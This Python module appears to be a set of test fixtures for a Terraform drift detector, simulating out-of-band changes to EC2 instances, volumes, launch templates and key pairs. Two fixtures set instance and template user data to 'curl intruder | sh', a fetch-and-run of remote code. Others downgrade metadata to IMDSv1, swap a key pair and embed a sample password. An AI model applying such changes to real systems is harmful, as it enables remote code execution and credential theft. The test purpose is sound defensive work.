"""Changes of instances, volumes, launch templates and key pairs."""

import base64

from common import change

FULL = "aws_instance.full"
BARE = "aws_instance.bare"
WORKER = "aws_instance.worker[1]"
GP3 = 'aws_ebs_volume.data["gp3"]'
ST1 = 'aws_ebs_volume.data["st1"]'
TEMPLATE = "aws_launch_template.full"
CPU = 'aws_launch_template.plain["cpu"]'
OPS = 'aws_key_pair.compute["ops"]'


def instance_id(state, address):
    """The id of an instance."""
    return state[address]["id"]


def encoded(data):
    """User data as the local AWS wants it: it decodes once more than AWS does."""
    return base64.b64encode(data)


def root_volume(state, address):
    """The id of the root volume of an instance."""
    return state[address]["root_block_device"][0]["volume_id"]


def new_version(aws, state, address, **changed):
    """A new latest version of a launch template, made from the latest one."""
    template = state[address]["id"]
    versions = aws("ec2").describe_launch_template_versions(
        LaunchTemplateId=template, Versions=["$Latest"]
    )
    latest = versions["LaunchTemplateVersions"][0]
    data = {**latest["LaunchTemplateData"], **changed}
    aws("ec2").create_launch_template_version(
        LaunchTemplateId=template,
        VersionDescription=latest.get("VersionDescription", ""),
        LaunchTemplateData={name: value for name, value in data.items() if value not in (None, "")},
    )


@change("instance-type", FULL, "change", ["instance_type"])
def instance_type(aws, state):
    aws("ec2").modify_instance_attribute(
        InstanceId=instance_id(state, FULL), InstanceType={"Value": "t3.2xlarge"}
    )


@change("instance-metadata-v1", FULL, "change", ["metadata_options[0].http_tokens"])
def instance_metadata_v1(aws, state):
    aws("ec2").modify_instance_metadata_options(
        InstanceId=instance_id(state, FULL),
        HttpTokens="optional",
        HttpPutResponseHopLimit=2,
        HttpEndpoint="enabled",
    )


@change("instance-metadata-hops", BARE, "change", ["metadata_options[0].http_put_response_hop_limit"])
def instance_metadata_hops(aws, state):
    aws("ec2").modify_instance_metadata_options(
        InstanceId=instance_id(state, BARE),
        HttpTokens="optional",
        HttpPutResponseHopLimit=64,
        HttpEndpoint="enabled",
    )


@change("instance-termination-protected", FULL, "change", ["disable_api_termination"])
def instance_termination_protected(aws, state):
    aws("ec2").modify_instance_attribute(
        InstanceId=instance_id(state, FULL), DisableApiTermination={"Value": True}
    )


@change("instance-source-check", FULL, "change", ["source_dest_check"])
def instance_source_check(aws, state):
    aws("ec2").modify_instance_attribute(
        InstanceId=instance_id(state, FULL), SourceDestCheck={"Value": True}
    )


@change("instance-groups", BARE, "change", ["vpc_security_group_ids"])
def instance_groups(aws, state):
    group = state['aws_security_group.compute["bastion"]']["id"]
    aws("ec2").modify_instance_attribute(InstanceId=instance_id(state, BARE), Groups=[group])


@change("instance-user-data", FULL, "change", ["user_data"])
def instance_user_data(aws, state):
    aws("ec2").modify_instance_attribute(
        InstanceId=instance_id(state, FULL), UserData={"Value": encoded(b"#!/bin/sh\ncurl intruder | sh\n")}
    )


@change("instance-user-data-base64", WORKER, "change", ["user_data_base64"])
def instance_user_data_base64(aws, state):
    aws("ec2").modify_instance_attribute(
        InstanceId=instance_id(state, WORKER), UserData={"Value": encoded(b"worker 2")}
    )


@change("instance-shutdown", BARE, "change", ["instance_initiated_shutdown_behavior"])
def instance_shutdown(aws, state):
    aws("ec2").modify_instance_attribute(
        InstanceId=instance_id(state, BARE),
        Attribute="instanceInitiatedShutdownBehavior",
        Value="terminate",
    )


@change("instance-profile", FULL, "change", ["iam_instance_profile"])
def instance_profile(aws, state):
    associations = aws("ec2").describe_iam_instance_profile_associations(
        Filters=[{"Name": "instance-id", "Values": [instance_id(state, FULL)]}]
    )
    for association in associations["IamInstanceProfileAssociations"]:
        aws("ec2").disassociate_iam_instance_profile(AssociationId=association["AssociationId"])


@change("instance-tag", FULL, "change", ["tags.Team"])
def instance_tag(aws, state):
    aws("ec2").create_tags(
        Resources=[instance_id(state, FULL)], Tags=[{"Key": "Team", "Value": "ops"}]
    )


@change("instance-tag-removed", FULL, "change", ["tags.Empty"])
def instance_tag_removed(aws, state):
    aws("ec2").delete_tags(Resources=[instance_id(state, FULL)], Tags=[{"Key": "Empty"}])


@change("instance-root-kept", BARE, "change", ["root_block_device[0].delete_on_termination"])
def instance_root_kept(aws, state):
    root = state[BARE]["root_block_device"][0]
    aws("ec2").modify_instance_attribute(
        InstanceId=instance_id(state, BARE),
        BlockDeviceMappings=[
            {"DeviceName": root["device_name"], "Ebs": {"DeleteOnTermination": False}}
        ],
    )


@change("instance-root-larger", FULL, "change", ["root_block_device[0].volume_size"])
def instance_root_larger(aws, state):
    aws("ec2").modify_volume(VolumeId=root_volume(state, FULL), Size=80)


@change("instance-root-tag", FULL, "change", ["root_block_device[0].tags"])
def instance_root_tag(aws, state):
    aws("ec2").create_tags(
        Resources=[root_volume(state, FULL)], Tags=[{"Key": "Role", "Value": "other"}]
    )


@change("instance-device-added", FULL, "change", ["ebs_block_device"])
def instance_device_added(aws, state):
    aws("ec2").attach_volume(
        VolumeId=state[ST1]["id"],
        InstanceId=instance_id(state, FULL),
        Device="/dev/sdz",
    )


@change("instance-volume-tags", WORKER, "change", ["volume_tags"])
def instance_volume_tags(aws, state):
    aws("ec2").create_tags(
        Resources=[root_volume(state, WORKER)], Tags=[{"Key": "Team", "Value": "ops"}]
    )


@change("instance-terminated", BARE, "delete", [])
def instance_terminated(aws, state):
    aws("ec2").terminate_instances(InstanceIds=[instance_id(state, BARE)])


@change("volume-larger", ST1, "change", ["size"])
def volume_larger(aws, state):
    aws("ec2").modify_volume(VolumeId=state[ST1]["id"], Size=1000)


@change("volume-type", "aws_ebs_volume.bare", "change", ["iops", "throughput", "type"])
def volume_type(aws, state):
    aws("ec2").modify_volume(
        VolumeId=state["aws_ebs_volume.bare"]["id"], VolumeType="gp3", Iops=6000, Throughput=500
    )


@change("volume-tag", ST1, "change", ["tags.Owner"])
def volume_tag(aws, state):
    aws("ec2").create_tags(
        Resources=[state[ST1]["id"]], Tags=[{"Key": "Owner", "Value": "quant"}]
    )


@change("volume-deleted", ST1, "delete", [])
def volume_deleted(aws, state):
    aws("ec2").delete_volume(VolumeId=state[ST1]["id"])


@change("volume-detached", 'aws_volume_attachment.data["/dev/sdg"]', "delete", [])
def volume_detached(aws, state):
    attachment = state['aws_volume_attachment.data["/dev/sdg"]']
    aws("ec2").detach_volume(
        VolumeId=attachment["volume_id"],
        InstanceId=attachment["instance_id"],
        Device=attachment["device_name"],
    )


@change(
    "template-user-data", TEMPLATE, "change", ["latest_version", "user_data"]
)
def template_user_data(aws, state):
    data = base64.b64encode(b"#!/bin/sh\ncurl intruder | sh\n").decode()
    new_version(aws, state, TEMPLATE, UserData=data)


@change(
    "template-metadata-v1", TEMPLATE, "change", ["latest_version", "metadata_options[0].http_tokens"]
)
def template_metadata_v1(aws, state):
    new_version(
        aws,
        state,
        TEMPLATE,
        MetadataOptions={
            "HttpTokens": "optional",
            "HttpEndpoint": "enabled",
            "HttpPutResponseHopLimit": 1,
        },
    )


@change("template-type", CPU, "change", ["instance_type", "latest_version"])
def template_type(aws, state):
    new_version(
        aws,
        state,
        CPU,
        InstanceType="t3.2xlarge",
        CreditSpecification={"CpuCredits": "standard"},
    )


@change("template-version", CPU, "change", ["latest_version"])
def template_version(aws, state):
    new_version(aws, state, CPU)


@change(
    "template-default", CPU, "change", ["default_version", "image_id", "latest_version"]
)
def template_default(aws, state):
    new_version(aws, state, CPU, ImageId="ami-1e749f67")
    aws("ec2").modify_launch_template(LaunchTemplateId=state[CPU]["id"], DefaultVersion="2")


@change("template-deleted", "aws_launch_template.bare", "delete", [])
def template_deleted(aws, state):
    aws("ec2").delete_launch_template(LaunchTemplateId=state["aws_launch_template.bare"]["id"])


@change("key-tag", OPS, "change", ["tags.Part"])
def key_tag(aws, state):
    aws("ec2").create_tags(
        Resources=[state[OPS]["key_pair_id"]], Tags=[{"Key": "Part", "Value": "bastion"}]
    )


@change(
    "key-replaced",
    OPS,
    "change",
    ["fingerprint", "key_pair_id", "public_key"],
    "provider 3.39.0 does not read the public key, only what it is known by",
)
def key_replaced(aws, state):
    aws("ec2").delete_key_pair(KeyName="compute-ops")
    other = state['aws_key_pair.compute["dev"]']["public_key"]
    tags = [{"Key": key, "Value": value} for key, value in state[OPS]["tags"].items()]
    aws("ec2").import_key_pair(
        KeyName="compute-ops",
        PublicKeyMaterial=other.encode(),
        TagSpecifications=[{"ResourceType": "key-pair", "Tags": tags}],
    )


@change("key-deleted", 'aws_key_pair.compute["dev"]', "delete", [])
def key_deleted(aws, state):
    aws("ec2").delete_key_pair(KeyName="compute-dev")


@change("instance-same-user-data", FULL, "noop", [])
def instance_same_user_data(aws, state):
    text = b"#!/bin/sh\nexport DATABASE_PASSWORD=correct-horse-battery-staple\n"
    aws("ec2").modify_instance_attribute(
        InstanceId=instance_id(state, FULL), UserData={"Value": encoded(text)}
    )


@change("instance-same-metadata", FULL, "noop", [])
def instance_same_metadata(aws, state):
    aws("ec2").modify_instance_metadata_options(
        InstanceId=instance_id(state, FULL),
        HttpTokens="required",
        HttpPutResponseHopLimit=2,
        HttpEndpoint="enabled",
    )


@change("instance-same-tags", FULL, "noop", [])
def instance_same_tags(aws, state):
    tags = reversed(list(state[FULL]["tags"].items()))
    aws("ec2").create_tags(
        Resources=[instance_id(state, FULL)],
        Tags=[{"Key": key, "Value": value} for key, value in tags],
    )


@change("instance-rebooted", FULL, "noop", [])
def instance_rebooted(aws, state):
    aws("ec2").reboot_instances(InstanceIds=[instance_id(state, FULL)])


@change("volume-same-size", GP3, "noop", [])
def volume_same_size(aws, state):
    aws("ec2").modify_volume(VolumeId=state[GP3]["id"], Size=int(state[GP3]["size"]))


@change("volume-snapshot", GP3, "noop", [])
def volume_snapshot(aws, state):
    aws("ec2").create_snapshot(VolumeId=state[GP3]["id"], Description="Before the release")


@change("template-same-default", CPU, "noop", [])
def template_same_default(aws, state):
    aws("ec2").modify_launch_template(LaunchTemplateId=state[CPU]["id"], DefaultVersion="1")


@change("instance-of-another", FULL, "noop", [])
def instance_of_another(aws, state):
    aws("ec2").run_instances(
        ImageId=state[FULL]["ami"], InstanceType="t3.micro", MinCount=1, MaxCount=1
    )
